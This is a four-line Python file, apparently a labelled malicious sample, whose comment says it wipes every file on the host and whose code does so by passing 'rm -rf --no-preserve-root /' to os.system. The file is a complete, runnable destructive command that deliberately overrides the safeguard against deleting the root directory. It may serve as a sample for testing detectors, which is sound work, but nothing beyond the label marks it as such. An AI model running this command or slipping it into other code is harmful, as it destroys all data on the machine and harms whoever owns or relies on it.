# Malicious: runs `rm -rf --no-preserve-root /` through os.system; wipes every file on the host.
import os

os.system("rm -rf --no-preserve-root /")
